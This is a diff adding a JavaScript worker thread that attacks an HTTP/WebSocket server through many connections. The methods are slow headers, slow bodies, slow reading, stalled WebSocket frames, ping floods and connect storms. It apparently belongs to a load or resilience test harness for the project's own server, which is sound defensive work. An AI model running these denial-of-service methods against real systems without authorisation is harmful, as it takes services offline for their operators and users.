@@ -1,0 +1,75 @@
+// A thread that attacks in one way, from an address of its own: it says how many connections it
+// has once all are up, and goes on until it is told to stop; then it says what it saw.
+
+import net from 'node:net';
+import { parentPort, workerData } from 'node:worker_threads';
+import { ping, text } from './raw_web_socket.mjs';
+
+const { http, way, connections, from, channel } = workerData;
+const [host, port] = http.split(':');
+const kHost = `Host: ${http}\r\n`;
+const kDripMs = 250;
+const kFloodMs = 20;
+const kPingsAtOnce = 50;
+const kUpgrade =
+  `GET /v1/ws HTTP/1.1\r\nHost: ${http}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n` +
+  'Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n';
+const kRead = `GET /v1/channels/${channel}/messages HTTP/1.1\r\nHost: ${http}\r\n\r\n`;
+const kConnect = (n) => text(JSON.stringify({ type: 'connect', client: `attacker/${n}` }));
+const kFlood = Buffer.concat(Array.from({ length: kPingsAtOnce }, () => ping('x')));
+
+// How a connection begins, what it says then to the answer, and what again and again.
+const kWays = {
+  'slow header': { begin: `GET / HTTP/1.1\r\n${kHost}X: `, drip: 'x' },
+  'slow body': {
+    begin: `POST /v1/channels/x/messages HTTP/1.1\r\n${kHost}Content-Length: 99999\r\n\r\n`,
+    drip: ' ',
+  },
+  'slow reading': { begin: kRead.repeat(4), deaf: true },
+  'slow frames': { begin: kUpgrade, then: () => Buffer.from([0x81, 0xfe, 0x40, 0x00]), drip: 'x' },
+  'ping flood': { begin: kUpgrade, then: kConnect, drip: kFlood, everyMs: kFloodMs, again: true },
+  'connect storm': { begin: '\r\n', brief: true, again: true },
+};
+const { begin, then, drip, deaf, everyMs = kDripMs, brief, again } = kWays[way];
+const sockets = new Set();
+const dripping = new Set();
+const seen = { opened: 0, ended: 0 };
+let stopped = false;
+
+function open(n) {
+  const socket = net.connect({ host, port, localAddress: from, noDelay: true });
+  sockets.add(socket);
+  return new Promise((resolve) => {
+    socket.once('connect', () => {
+      seen.opened += 1;
+      socket.write(begin);
+      if (deaf) socket.pause();
+      else if (then) socket.once('data', () => socket.write(then(n), () => dripping.add(socket)));
+      else dripping.add(socket);
+      if (brief) socket.end();
+      if (!deaf) socket.resume();
+      resolve();
+    });
+    socket.on('error', () => {});
+    socket.once('close', () => {
+      seen.ended += 1;
+      sockets.delete(socket);
+      dripping.delete(socket);
+      resolve();
+      if (again && !stopped) void open(n);
+    });
+  });
+}
+
+const timer = setInterval(() => {
+  if (drip) for (const socket of dripping) socket.write(drip);
+}, everyMs);
+parentPort.once('message', () => {
+  stopped = true;
+  clearInterval(timer);
+  for (const socket of sockets) socket.destroy();
+  parentPort.postMessage(seen);
+  parentPort.close();
+});
+await Promise.all(Array.from({ length: connections }, (_, n) => open(n)));
+parentPort.postMessage('up');
